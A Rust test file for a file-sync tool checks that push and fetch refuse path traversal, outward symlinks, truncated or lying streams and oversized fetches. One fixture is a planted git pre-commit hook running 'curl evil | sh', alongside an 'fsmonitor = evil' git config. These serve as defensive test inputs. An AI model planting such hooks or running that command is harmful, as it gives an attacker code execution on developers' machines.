//! Hostile and broken streams against the server's side, and a whole push and fetch in memory.

use super::*;

fn entry(path: &str, content: &[u8]) -> Entry {
    Entry {
        path: path.into(),
        size: content.len() as u64,
        mode: 0o644,
        mtime: (1_700_000_000, 0),
        sha256: Some(manifest::hash_reader(content).expect("hash")),
        link: None,
    }
}

/// A laptop's stream, crafted: the manifest, then the given files' frames.
fn stream(entries: &[Entry], files: &[&[u8]]) -> Vec<u8> {
    let mut s = Vec::new();
    wire::write_magic(&mut s).expect("magic");
    wire::write_message(&mut s, &Manifest { entries: entries.to_vec() }).expect("manifest");
    for f in files {
        wire::send_file(&mut s, Some(&mut &f[..])).expect("send").expect("read");
    }
    s
}

fn listing(dir: &Path) -> Vec<String> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).expect("ls") {
            let e = e.expect("entry");
            let rel = e.path().strip_prefix(dir).expect("inside").to_string_lossy().into_owned();
            if rel == ".berth" {
                continue;
            }
            if e.file_type().expect("type").is_dir() {
                stack.push(e.path());
            }
            out.push(rel);
        }
    }
    out.sort();
    out
}

#[test]
fn paths_that_leave_the_folder_refuse_the_whole_stream_before_anything_is_written() {
    let parent = tempfile::tempdir().expect("tempdir");
    let dir = parent.path().join("proj");
    for bad in ["../escape", "/tmp/abs", "a/../../x", ".berth/sync-record.json", "a//b", "./a"] {
        let s = stream(&[entry("ok.txt", b"ok"), entry(bad, b"bad")], &[b"ok", b"bad"]);
        let mut answer = Vec::new();
        let err = receive(&dir, s.as_slice(), &mut answer).expect_err("refused");
        assert!(matches!(err, SyncError::BadPath { .. }), "{bad}: {err}");
        assert!(listing(&dir).is_empty(), "{bad}: nothing written");
        // The laptop is told why.
        let mut r = answer.as_slice();
        wire::read_magic(&mut r).expect("magic");
        assert!(matches!(wire::read_message::<Reply<Plan>>(&mut r).expect("reply"), Reply::Error { .. }));
    }
    assert_eq!(std::fs::read_dir(parent.path()).expect("ls").count(), 1, "nothing beside the folder");
}

#[test]
fn symlinks_out_of_the_folder_are_refused_and_planted_ones_are_not_followed() {
    let parent = tempfile::tempdir().expect("tempdir");
    let outside = tempfile::tempdir().expect("tempdir");
    let dir = parent.path().join("proj");
    let mut link = entry("l", b"");
    link.sha256 = None;
    link.link = Some("../../etc".into());
    let err = receive(&dir, stream(&[link.clone()], &[]).as_slice(), Vec::new()).expect_err("refused");
    assert!(err.to_string().contains("outside the project"), "{err}");
    // A link inside is fine, but a file "under" it is not written through it.
    link.link = Some("sub".into());
    let err = receive(&dir, stream(&[link, entry("l/x", b"x")], &[b"x"]).as_slice(), Vec::new())
        .expect_err("refused");
    assert!(err.to_string().contains("also listed"), "{err}");
    // A symlink made on the server pointing outside: the sync never writes through it.
    std::os::unix::fs::symlink(outside.path(), dir.join("out")).expect("link");
    let report =
        receive(&dir, stream(&[entry("out/pwned", b"x")], &[b"x"]).as_slice(), Vec::new()).expect("sync");
    assert_eq!(report.files_sent, 0);
    assert!(report.files_skipped[0].reason.contains("symlink"), "{:?}", report.files_skipped);
    assert_eq!(std::fs::read_dir(outside.path()).expect("ls").count(), 0);
}

#[test]
fn a_truncated_stream_leaves_no_partial_file_and_a_lying_one_no_file_at_all() {
    let parent = tempfile::tempdir().expect("tempdir");
    let dir = parent.path().join("proj");
    let big = vec![b'x'; 3 << 20];
    let full = stream(&[entry("a.txt", b"a"), entry("big.bin", &big)], &[b"a", &big]);
    // A crafted stream holds every file, so each cut goes to a fresh folder (the plan asks for all).
    for (i, cut) in [full.len() - 40, full.len() - (2 << 20), 20].into_iter().enumerate() {
        let dir = parent.path().join(format!("cut{i}"));
        let err = receive(&dir, &full[..cut], Vec::new()).expect_err("cut");
        assert!(err.to_string().contains("ended early"), "{err}");
        let files = listing(&dir);
        assert!(!files.iter().any(|f| f.contains("big") || f.contains("berth-sync")), "{files:?}");
    }
    // Bytes that do not match the manifest's hash are thrown away.
    let s = stream(&[entry("c.txt", b"promised")], &[b"othered"]);
    let report = receive(&dir, s.as_slice(), Vec::new()).expect("sync");
    assert_eq!(report.files_sent, 0);
    assert!(!dir.join("c.txt").exists());
    // A manifest that claims a file twice, or a garbage message, is refused.
    let twice = stream(&[entry("d", b"1"), entry("d", b"1")], &[]);
    assert!(receive(&dir, twice.as_slice(), Vec::new()).is_err());
    let mut garbage = wire::MAGIC.to_vec();
    garbage.extend_from_slice(&[0, 0, 0, 5, 1, 2, 3, 4, 5]);
    assert!(matches!(receive(&dir, garbage.as_slice(), Vec::new()), Err(SyncError::Protocol(_))));
}

/// A push from `laptop` into `server`, the server's side run in a thread over pipes.
fn push_to(laptop: &Path, server: &Path) -> SyncReport {
    let (to_server_r, to_server_w) = std::io::pipe().expect("pipe");
    let (from_server_r, from_server_w) = std::io::pipe().expect("pipe");
    let server = server.to_path_buf();
    let t = std::thread::spawn(move || receive(&server, to_server_r, from_server_w));
    let report = push(laptop, to_server_w, from_server_r).expect("push");
    t.join().expect("thread").expect("receive");
    report
}

fn fetch_from(laptop: &Path, server: &Path, paths: &[&str], force: bool) -> Result<FetchReport, SyncError> {
    let (to_server_r, to_server_w) = std::io::pipe().expect("pipe");
    let (from_server_r, from_server_w) = std::io::pipe().expect("pipe");
    let server = server.to_path_buf();
    let t = std::thread::spawn(move || send(&server, to_server_r, from_server_w));
    let paths: Vec<PathBuf> = paths.iter().map(PathBuf::from).collect();
    let report = fetch(laptop, &paths, force, to_server_w, from_server_r);
    let _ = t.join().expect("thread");
    report
}

#[test]
fn only_changes_travel_and_the_servers_own_files_stay() {
    let laptop = tempfile::tempdir().expect("tempdir");
    let server_parent = tempfile::tempdir().expect("tempdir");
    let server = server_parent.path().join("berth/proj");
    let l = laptop.path();
    std::fs::write(l.join("train.py"), "print(1)\n").expect("write");
    std::fs::create_dir(l.join("cfg")).expect("mkdir");
    std::fs::write(l.join("cfg/a.yaml"), "a: 1\n").expect("write");
    std::os::unix::fs::symlink("train.py", l.join("main.py")).expect("link");
    let first = push_to(l, &server);
    assert_eq!((first.files_sent, first.unchanged), (3, 0), "{first:?}");
    assert_eq!(std::fs::read_link(server.join("main.py")).expect("link"), Path::new("train.py"));
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(std::fs::metadata(&server).expect("meta").permissions().mode() & 0o777, 0o700);
    assert_eq!(
        std::fs::metadata(server.parent().expect("p")).expect("meta").permissions().mode() & 0o777,
        0o700
    );
    let second = push_to(l, &server);
    assert_eq!((second.files_sent, second.bytes_sent, second.unchanged), (0, 0, 3));
    // Edited on the server, and made on the server: both kept.
    std::fs::write(server.join("cfg/a.yaml"), "a: server\n").expect("write");
    std::fs::write(server.join("ckpt.pth"), "weights").expect("write");
    std::fs::write(l.join("cfg/a.yaml"), "a: 2\n").expect("write");
    std::fs::write(l.join("ckpt.pth"), "laptop").expect("write");
    std::fs::write(l.join("train.py"), "print(2)\n").expect("write");
    let third = push_to(l, &server);
    assert_eq!(third.files_sent, 1);
    assert_eq!(third.bytes_sent, 9);
    assert_eq!(std::fs::read_to_string(server.join("cfg/a.yaml")).expect("read"), "a: server\n");
    assert_eq!(std::fs::read_to_string(server.join("ckpt.pth")).expect("read"), "weights");
    let reasons: BTreeMap<&str, &str> =
        third.files_skipped.iter().map(|s| (s.path.as_str(), s.reason.as_str())).collect();
    assert!(reasons["cfg/a.yaml"].contains("changed on the server"), "{reasons:?}");
    assert!(reasons["ckpt.pth"].contains("made on the server"), "{reasons:?}");
    // Deleted on the laptop: kept on the server, and said.
    std::fs::remove_file(l.join("main.py")).expect("rm");
    let fourth = push_to(l, &server);
    assert_eq!(fourth.kept_on_server, ["main.py"]);
    assert!(server.join("main.py").symlink_metadata().is_ok());

    // Fetch: a missing file comes, a newer local one stays unless forced.
    std::fs::write(server.join("ckpt.pth"), "weights-2").expect("write");
    std::fs::create_dir_all(server.join("work_dirs/run1")).expect("mkdir");
    std::fs::write(server.join("work_dirs/run1/log.txt"), "loss 0.1\n").expect("write");
    let got = fetch_from(l, &server, &["work_dirs"], false).expect("fetch");
    assert_eq!((got.files_fetched, got.bytes_received), (1, 9));
    assert_eq!(std::fs::read_to_string(l.join("work_dirs/run1/log.txt")).expect("read"), "loss 0.1\n");
    let again = fetch_from(l, &server, &["work_dirs"], false).expect("fetch");
    assert_eq!((again.files_fetched, again.unchanged), (0, 1));
    // The laptop's ckpt.pth was written after the server's? Make it newer, then older.
    let later = std::time::SystemTime::now() + std::time::Duration::from_secs(60);
    std::fs::File::options()
        .write(true)
        .open(l.join("ckpt.pth"))
        .expect("open")
        .set_modified(later)
        .expect("mtime");
    let kept = fetch_from(l, &server, &["ckpt.pth"], false).expect("fetch");
    assert_eq!(kept.files_fetched, 0);
    assert!(kept.files_skipped[0].reason.contains("newer on the laptop"));
    assert_eq!(std::fs::read_to_string(l.join("ckpt.pth")).expect("read"), "laptop");
    let forced = fetch_from(l, &server, &["ckpt.pth"], true).expect("fetch");
    assert_eq!(forced.files_fetched, 1);
    assert_eq!(std::fs::read_to_string(l.join("ckpt.pth")).expect("read"), "weights-2");
    // Paths that are not there, or that leave the project, are refused.
    assert!(matches!(fetch_from(l, &server, &["nope"], false), Err(SyncError::Missing(_))));
    assert!(matches!(fetch_from(l, &server, &["../x"], false), Err(SyncError::BadPath { .. })));
    assert!(matches!(fetch_from(l, &server, &[".berth"], false), Err(SyncError::BadPath { .. })));
    // The whole project never brings the server's .berth.
    let all = fetch_from(l, &server, &["."], false).expect("fetch");
    assert!(all.files_skipped.iter().any(|s| s.path == "main.py"), "a symlink is not fetched: {all:?}");
    assert!(!l.join(".berth/sync-record.json").exists());
}

#[test]
fn a_hostile_server_cannot_write_outside_the_laptops_project() {
    let laptop = tempfile::tempdir().expect("tempdir");
    let mut answer = Vec::new();
    wire::write_magic(&mut answer).expect("magic");
    let mut evil = entry("out/../../x", b"x");
    evil.sha256 = None;
    wire::write_message(
        &mut answer,
        &Reply::Ok(FetchOffer { entries: vec![evil], missing: vec![], skipped: vec![] }),
    )
    .expect("offer");
    let err = fetch(laptop.path(), &[PathBuf::from("out")], false, Vec::new(), answer.as_slice())
        .expect_err("refused");
    assert!(matches!(err, SyncError::BadPath { .. }), "{err}");
    // Nor slip in a path that was not asked for.
    let mut answer = Vec::new();
    wire::write_magic(&mut answer).expect("magic");
    let mut other = entry("train.py", b"x");
    other.sha256 = None;
    wire::write_message(
        &mut answer,
        &Reply::Ok(FetchOffer { entries: vec![other], missing: vec![], skipped: vec![] }),
    )
    .expect("offer");
    let err = fetch(laptop.path(), &[PathBuf::from("out")], false, Vec::new(), answer.as_slice())
        .expect_err("refused");
    assert!(err.to_string().contains("not asked for"), "{err}");
}

/// A server's answer to a fetch, crafted: the offer, then the given files' frames.
fn offer_stream(entries: Vec<Entry>, files: &[&[u8]]) -> Vec<u8> {
    let mut s = Vec::new();
    wire::write_magic(&mut s).expect("magic");
    let entries = entries.into_iter().map(|e| Entry { sha256: None, ..e }).collect();
    wire::write_message(&mut s, &Reply::Ok(FetchOffer { entries, missing: vec![], skipped: vec![] }))
        .expect("offer");
    for f in files {
        wire::send_file(&mut s, Some(&mut &f[..])).expect("send").expect("read");
    }
    s
}

#[test]
fn a_hostile_server_cannot_plant_git_hooks_or_files_others_may_write() {
    use std::os::unix::fs::PermissionsExt;
    let laptop = tempfile::tempdir().expect("tempdir");
    let hook = Entry { mode: 0o777, ..entry(".git/hooks/pre-commit", b"#!/bin/sh\ncurl evil | sh\n") };
    let nested = entry("sub/.git/config", b"[core]\nfsmonitor = evil\n");
    let result = Entry { mode: 0o777, ..entry("out/result.txt", b"42\n") };
    // Only the plain result's bytes are asked for, so only they follow the offer.
    let answer = offer_stream(vec![hook, nested, result], &[b"42\n"]);
    let report = fetch(laptop.path(), &[PathBuf::from(".")], false, Vec::new(), answer.as_slice())
        .expect("the rest is fetched");
    assert_eq!(report.files_fetched, 1, "{report:?}");
    assert!(!laptop.path().join(".git").exists() && !laptop.path().join("sub").exists());
    let skipped: Vec<&str> = report.files_skipped.iter().map(|s| s.path.as_str()).collect();
    assert_eq!(skipped, [".git/hooks/pre-commit", "sub/.git/config"]);
    assert!(report.files_skipped[0].reason.contains(".git"), "{report:?}");
    let got = laptop.path().join("out/result.txt");
    assert_eq!(std::fs::read(&got).expect("read"), b"42\n");
    assert_eq!(std::fs::metadata(&got).expect("meta").permissions().mode() & 0o777, 0o755);
}

#[test]
fn a_fetch_larger_than_the_free_disk_is_refused_before_anything_is_written() {
    let laptop = tempfile::tempdir().expect("tempdir");
    let small = entry("work_dirs/log.txt", b"loss 0.1\n");
    let huge = Entry { size: u64::MAX / 4, ..entry("work_dirs/epoch_1.pth", b"") };
    let answer = offer_stream(vec![small, huge], &[]);
    let err = fetch(laptop.path(), &[PathBuf::from("work_dirs")], false, Vec::new(), answer.as_slice())
        .expect_err("no room");
    assert!(matches!(err, SyncError::NoRoom { .. }), "{err}");
    assert!(err.to_string().contains("free"), "{err}");
    assert!(!laptop.path().join("work_dirs").exists(), "nothing written");
}
